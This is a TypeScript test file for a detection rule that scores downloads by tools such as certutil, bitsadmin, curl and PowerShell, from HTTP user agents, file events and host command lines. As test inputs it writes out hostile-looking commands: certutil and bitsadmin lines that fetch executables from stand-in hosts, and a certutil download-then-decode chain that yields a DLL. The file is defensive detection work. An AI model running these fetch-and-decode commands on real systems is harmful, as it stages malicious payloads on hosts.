/**
 * download-tool on HTTP user agents, file events and host command lines: LOLBin vs admin-tool scores,
 * executables scoring higher, Windows Update over BITS staying below medium, URL/host/output details,
 * T1570 for internal destinations, the certutil download → decode chain, and negatives (curl to localhost,
 * admin PowerShell, certutil -hashfile, browsers).
 */
import assert from 'node:assert/strict'
import { test } from 'node:test'
import type { DetectionContext } from '../detection.js'
import type { FileEvent, HostEvent, HttpEvent } from '../events.js'
import { AddressSet, DEFAULT_INTERNAL_CIDRS } from '../net/address-set.js'
import def from './download-tool.js'

const ctx: DetectionContext = { internal: new AddressSet(DEFAULT_INTERNAL_CIDRS) }
const conn = { uid: 'C1', orig_h: '10.0.0.5', orig_p: 50000, resp_h: '198.51.100.7', resp_p: 80, proto: 'tcp' as const }

/** An HTTP transaction without a response body (HEAD, redirect, truncated capture): judged on the HttpEvent. */
function http(ua: string, hostName: string, uri: string, mime?: string, bodyLen = 0): HttpEvent {
  return {
    kind: 'http',
    ts: 1700000000,
    source: 'pcap',
    ...conn,
    trans_depth: 1,
    method: 'GET',
    host: hostName,
    uri,
    user_agent: ua,
    request_body_len: 0,
    response_body_len: bodyLen,
    ...(mime !== undefined ? { resp_mime: mime } : {}),
  }
}
function proc(cmd: string, ts = 1700000000, hostName = 'ws01'): HostEvent {
  return {
    kind: 'host',
    ts,
    source: 'syslog',
    host: hostName,
    event_id: 'sysmon:1',
    action: 'process',
    command_line: cmd,
    raw: cmd,
  }
}
const run = (ev: HttpEvent | HostEvent | FileEvent, inst = def.create(def.params, ctx)) => inst.onEvent(ev) ?? []

test('certutil UA outranks curl UA; executables rank higher', () => {
  const [c] = run(http('Microsoft-CryptoAPI/10.0', 'example.net', '/a.txt'))
  const [k] = run(http('curl/8.5.0', 'example.net', '/a.txt'))
  const [e] = run(http('curl/8.5.0', 'example.net', '/a.exe', 'application/x-dosexec'))
  assert.ok(c && k && e)
  assert.ok(c.score > k.score)
  assert.ok(e.score > k.score)
  assert.equal(c.technique, 'T1105')
  assert.equal(c.details?.tool, 'certutil')
  assert.equal(c.orig_h, '10.0.0.5')
})

test('Windows Update via BITS stays below medium; a browser UA is not an alert', () => {
  const [w] = run(http('Microsoft BITS/7.8', 'download.windowsupdate.com', '/c/msdownload/update/x.cab'))
  assert.ok(w)
  assert.ok(w.severity === 'info' || w.severity === 'low')
  assert.deepEqual(
    run(http('Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0', 'example.net', '/a.exe')),
    [],
  )
})

test('file event with a download-tool UA and PE content', () => {
  const f: FileEvent = {
    kind: 'file',
    ts: 1700000000,
    source: 'pcap',
    ...conn,
    file_proto: 'http',
    name: 'a.exe',
    direction: 'download',
    sender_is_orig: false,
    bytes: 4096,
    missing_bytes: 0,
    type: 'pe',
    complete: true,
    head_hex: '4d5a90',
    context: {
      user_agent: 'Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.1',
      host: 'example.net',
      uri: '/a.exe',
    },
  }
  const [a] = run(f)
  assert.ok(a)
  assert.equal(a.file?.type, 'pe')
  assert.ok(a.score >= 65)
})

function file(ua: string, type: FileEvent['type'], uri: string): FileEvent {
  return {
    kind: 'file',
    ts: 1700000000,
    source: 'pcap',
    ...conn,
    file_proto: 'http',
    name: uri.slice(1),
    direction: 'download',
    sender_is_orig: false,
    bytes: 1000,
    missing_bytes: 0,
    type,
    complete: true,
    head_hex: '3c68746d6c3e',
    context: { user_agent: ua, host: 'example.net', uri },
  }
}

test('one alert per transfer: the FileEvent when the response had a body, the HttpEvent only without one', () => {
  const inst = def.create(def.params, ctx)
  // The same transfer seen as an HttpEvent with a body and as its FileEvent: only the FileEvent alerts.
  assert.deepEqual(run(http('curl/8.5.0', 'example.net', '/index.html', 'text/html', 1000), inst), [])
  const [f] = run(file('curl/8.5.0', 'text', '/index.html'), inst)
  assert.ok(f)
  assert.match(f.identifier, /^download-tool\|file\|/)
  assert.equal(f.file?.type, 'text')
  // A plain page fetched by an admin tool is context before the scorer adds never-seen (docs/alerts.md: info).
  assert.equal(f.severity, 'info')
  // A LOLBin fetching an executable is high before context; an admin tool fetching one is medium.
  const [c] = run(file('Microsoft-CryptoAPI/10.0', 'pe', '/a.exe'))
  const [k] = run(file('curl/8.5.0', 'elf', '/a'))
  assert.equal(c?.severity, 'high')
  assert.equal(k?.severity, 'medium')
})

test('command lines: URL, destination and output in details; internal destination is T1570', () => {
  const [a] = run(proc('certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\p.exe'))
  assert.equal(a?.details?.url, 'http://203.0.113.9/p.exe')
  assert.equal(a?.details?.dest_host, '203.0.113.9')
  assert.equal(a?.details?.output, 'C:\\p.exe')
  assert.equal(a?.technique, 'T1105')
  assert.equal(a?.host, 'ws01')
  assert.equal(a?.evidence[0]?.raw, 'certutil -urlcache -split -f http://203.0.113.9/p.exe C:\\p.exe')
  // A LOLBin download command line with a URL is high (docs/alerts.md).
  assert.equal(a?.severity, 'high')
  const [l] = run(proc('bitsadmin /transfer j http://10.9.9.9/tool.exe C:\\t.exe'))
  assert.equal(l?.technique, 'T1570')
  assert.equal(l?.tactic, 'lateral-movement')
})

test('certutil -decode after a certutil download on the same host is reported; alone it is not', () => {
  const inst = def.create(def.params, ctx)
  assert.deepEqual(run(proc('certutil -f -decode a.b64 a.dll', 1700000000), inst), [])
  run(proc('certutil -urlcache -f http://203.0.113.9/a.b64 a.b64', 1700000100), inst)
  const [d] = run(proc('certutil -f -decode a.b64 a.dll', 1700000200), inst)
  assert.equal(d?.details?.method, 'certutil -decode')
  assert.equal(d?.details?.output, 'a.dll')
  assert.deepEqual(run(proc('certutil -f -decode a.b64 a.dll', 1700000200, 'other-host'), inst), [])
})

test('negatives: curl to localhost, admin PowerShell, certutil -hashfile', () => {
  for (const cmd of [
    'curl http://localhost:8080/health',
    'powershell -NoProfile -Command "Get-Service | Where-Object Status -eq Running"',
    'certutil -hashfile C:\\Windows\\notepad.exe SHA256',
  ]) {
    assert.deepEqual(run(proc(cmd)), [], cmd)
  }
})

test('BITS-Client 16403 job URL', () => {
  const ev: HostEvent = {
    kind: 'host',
    ts: 1700000000,
    source: 'syslog',
    host: 'ws01',
    event_id: 'bits:16403',
    action: 'other',
    details: 'https://transfer.sh/get/a.exe',
    target_filename: 'C:\\a.exe',
    raw: 'x',
  }
  const [a] = run(ev)
  assert.equal(a?.details?.dest_host, 'transfer.sh')
  const wu = run({ ...ev, details: 'http://download.windowsupdate.com/d/msdownload/x.cab' })
  assert.ok(wu[0] === undefined || wu[0].severity === 'info' || wu[0].severity === 'low')
})
